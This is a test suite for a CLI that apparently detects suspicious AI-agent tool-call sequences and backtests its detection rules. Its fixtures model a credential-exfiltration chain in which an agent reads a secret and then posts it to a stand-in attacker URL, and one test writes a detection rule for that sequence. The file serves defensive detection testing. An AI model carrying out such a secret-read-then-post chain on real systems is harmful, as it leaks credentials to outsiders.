/** A backtest over what is on record tells the alerts, with the ids, that the live run told. */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import type { Service } from '../../../services/cli/service.ts';
import { eventually, openPlace, startIn, tripline, type Place, type Ran } from './harness.ts';

const CHAIN = ['web_search', 'read_secret', 'http_post'];
const URL_OUTSIDE = 'https://collect.attacker.example/drop';

/** The chain in one session, complete or not, one call a second. */
function session(name: string, tools: readonly string[]): string[] {
  return tools.map((tool, second) =>
    JSON.stringify({
      v: 1,
      kind: 'call.intent',
      time: `2026-01-31T12:00:0${second}.000Z`,
      session: name,
      agent: 'bot',
      server: 'any',
      callId: String(second),
      tool,
      args: tool === 'http_post' ? { url: URL_OUTSIDE } : {},
    }),
  );
}

suite('backtest', () => {
  let place: Place;
  let service: Service;
  const json = (...argv: readonly string[]): Promise<Ran> => tripline(place.env, [...argv, '--json']);
  before(async () => {
    place = await openPlace();
    service = await startIn(place);
    const file = join(place.dir, 'events.ndjson');
    const lines = [
      ...Array.from({ length: 6 }, (_, index) => session(`hit-${index}`, CHAIN)),
      session('order', ['read_secret', 'http_post', 'web_search']),
      session('missing', ['web_search', 'http_post']),
    ].flat();
    writeFileSync(file, `${lines.join('\n')}\n`);
    assert.equal((await json('replay', file)).exitCode, 0);
  });
  after(async () => {
    await service.stop();
    await place.remove();
  });

  test('a shipped rule gives the ids of the live alerts, and says that they were told', async () => {
    const live = await eventually(
      () => json('alerts'),
      (ran) => ran.items().filter((item) => item['ruleId'] === 'chain.search-vault-post').length === 6,
    );
    const ids = live
      .items()
      .filter((item) => item['ruleId'] === 'chain.search-vault-post')
      .map((item) => item['id']);
    const ran = await eventually(
      () => json('backtest', 'chain.search-vault-post'),
      (tried) => tried.items().length === 6,
    );
    assert.equal(ran.exitCode, 0);
    assert.match(ran.err, /6 alerts \(6 of them told live\) over 23 events; [\d.]+ us an event, /);
    assert.deepEqual(new Set(ran.items().map((item) => item['id'])), new Set(ids));
    assert.deepEqual(new Set(ran.items().map((item) => item['told'])), new Set([true]));
  });

  test('a rule that never ran tells what it would have found', async () => {
    const rule = join(place.dir, 'rule.yaml');
    writeFileSync(
      rule,
      [
        'id: test.secret-then-post',
        'title: Secret read, then a post',
        'level: low',
        'key: session',
        'events:',
        '  secret: { tool.class: secret_read }',
        '  post: { tool.class: external_post }',
        'sequence: [secret, post]',
        'within: 10m',
        '',
      ].join('\n'),
    );
    const ran = await json('backtest', rule);
    assert.equal(ran.exitCode, 0, ran.err);
    const sessions = ran.items().map((item) => (item['calls'] as { session: string }[])[0]?.session);
    assert.deepEqual(
      new Set(sessions),
      new Set(['hit-0', 'hit-1', 'hit-2', 'hit-3', 'hit-4', 'hit-5', 'order']),
    );
    assert.equal(sessions.length, 7);
    assert.deepEqual(new Set(ran.items().map((item) => item['told'])), new Set([false]));
  });

  test('an interrupted run prints what it found so far and ends with 1', async () => {
    const abort = new AbortController();
    const reading = globalThis.fetch;
    // The interruption comes once the events have begun to arrive.
    globalThis.fetch = async (input, init) => {
      const response = await reading(input, init);
      if (typeof input !== 'string' || !input.includes('/v1/ledger/export')) return response;
      const [first, second] = (response.body as ReadableStream<Uint8Array>).tee();
      const reader = first.getReader();
      void reader.read().then(() => abort.abort());
      return new Response(second);
    };
    try {
      const ran = await tripline(place.env, ['backtest', 'chain.search-vault-post', '--json'], abort.signal);
      assert.equal(ran.exitCode, 1);
      assert.match(ran.err, /interrupted: \d+ alerts .* over \d+ events; [\d.]+ us an event/);
      assert.ok(ran.items().every((item) => item['ruleId'] === 'chain.search-vault-post'));
    } finally {
      globalThis.fetch = reading;
    }
  });

  test('rules explain reads a session on record: why it fired, or what it waits for', async () => {
    const explain = (id: string): Promise<Ran> =>
      json('rules', 'explain', 'chain.search-vault-post', '--session', id);
    const fired = await eventually(
      () => explain('hit-0'),
      (tried) => tried.exitCode === 0,
    );
    const hits = fired.items()[0]?.['keys'] as { matches: { calls: { step: string }[]; told: boolean }[] }[];
    assert.deepEqual(
      hits[0]?.matches.map(({ calls, told }) => [calls.map(({ step }) => step), told]),
      [[['search', 'secret', 'post'], true]],
    );
    const text = await tripline(place.env, [
      'rules',
      'explain',
      'chain.search-vault-post',
      '--session',
      'missing',
    ]);
    assert.match(
      text.out,
      /OPEN after 1 by append time\n    search .*web_search.*\n    waits for secret until /,
    );
    assert.equal((await explain('nobody')).exitCode, 1);
    assert.equal((await json('rules', 'explain', 'chain.search-vault-post')).exitCode, 2);
  });

  test('a rule that is neither shipped nor a file is a fault of usage', async () => {
    assert.equal((await json('backtest', 'no.such-rule')).exitCode, 2);
  });
});
